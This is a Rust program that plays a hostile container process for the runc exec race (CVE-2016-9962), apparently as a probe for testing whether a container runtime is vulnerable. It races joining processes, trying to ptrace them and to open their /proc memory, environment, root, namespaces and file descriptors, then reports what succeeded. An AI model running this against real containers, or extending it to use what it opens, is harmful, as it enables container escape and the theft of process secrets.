//! What a hostile process of a container does to those that join it (CVE-2016-9962): it looks at every process but itself, and as long
//! as that is not yet the program that it will be, tries to trace it and to open what `/proc` has of it.
//!
//! `attacker PROGRAM`: the name (`comm`) of the program that joining processes execute in the end. A line `saw PID NAME TRIES` tells of
//! each process that was attacked before, and how much had been tried by then, `won PID HOW` of what succeeded, which ends it. So
//! does a file `/stop`; `tried NUMBER` is the last line then.

#![allow(unsafe_code, reason = "ptrace(2) and waitpid(2), which the standard library has no words for")]

use std::collections::BTreeSet;
use std::fs::{self, OpenOptions};
use std::os::unix::fs::OpenOptionsExt;
use std::path::Path;

/// What only who may trace a process can open of it.
const FILES: [(&str, i32); 8] = [
    ("mem", libc::O_RDWR),
    ("maps", libc::O_RDONLY),
    ("environ", libc::O_RDONLY),
    ("auxv", libc::O_RDONLY),
    ("exe", libc::O_RDONLY),
    ("root", libc::O_PATH),
    ("cwd", libc::O_PATH),
    ("ns/mnt", libc::O_RDONLY),
];

fn main() {
    let program = std::env::args().nth(1).unwrap_or_default();
    let mut attacker = Attacker { program, seen: BTreeSet::new(), tried: 0 };
    while !Path::new("/stop").exists() {
        for pid in processes() {
            if let Some(how) = attacker.attack(pid) {
                println!("won {pid} {how}");
                return;
            }
        }
        let_go();
    }
    println!("tried {}", attacker.tried);
}

/// Of what was traced a moment too late: where it stopped it goes on, and where it ended it is no zombie any more.
fn let_go() {
    let mut status = 0;
    loop {
        // SAFETY: `status` is a live local that the call writes.
        let pid = unsafe { libc::waitpid(-1, &raw mut status, libc::WNOHANG | libc::__WALL) };
        if pid <= 0 {
            return;
        }
        if libc::WIFSTOPPED(status) {
            // SAFETY: PTRACE_DETACH takes a process id and a signal as numbers, and no pointers.
            unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, 0, libc::WSTOPSIG(status)) };
        }
    }
}

/// All but this one.
fn processes() -> Vec<u32> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    let numbers = entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok());
    numbers.filter(|pid| *pid != std::process::id()).collect()
}

struct Attacker {
    program: String,
    seen: BTreeSet<u32>,
    tried: u64,
}

impl Attacker {
    /// How it succeeded, if it did while the process was not yet its program.
    fn attack(&mut self, pid: u32) -> Option<String> {
        self.joins(pid)?;
        let mut won = self.trace(pid);
        for (file, flags) in FILES {
            won = won.or_else(|| self.open(pid, file, flags));
        }
        for entry in fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
            let number = entry.file_name().to_string_lossy().into_owned();
            won = won.or_else(|| self.open(pid, &format!("fd/{number}"), libc::O_PATH));
        }
        // Looked at after the attack: what it is now it was then.
        let name = self.joins(pid)?;
        if self.seen.insert(pid) {
            println!("saw {pid} {name} {}", self.tried);
        }
        won
    }

    /// The name of a process that lives and has not executed its program.
    fn joins(&self, pid: u32) -> Option<String> {
        let stat = fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
        let (name, rest) = stat.split_once('(')?.1.rsplit_once(") ")?;
        (name != self.program && !rest.starts_with(['Z', 'X'])).then(|| name.to_owned())
    }

    fn trace(&mut self, pid: u32) -> Option<String> {
        self.tried += 1;
        // SAFETY: PTRACE_SEIZE takes a process id and options as numbers, and no pointers.
        let result = unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) };
        (result == 0).then(|| "traced".to_owned())
    }

    fn open(&mut self, pid: u32, file: &str, flags: i32) -> Option<String> {
        self.tried += 1;
        let write = flags & libc::O_ACCMODE == libc::O_RDWR;
        let opened = OpenOptions::new().read(true).write(write).custom_flags(flags).open(format!("/proc/{pid}/{file}"));
        opened.is_ok().then(|| file.to_owned())
    }
}
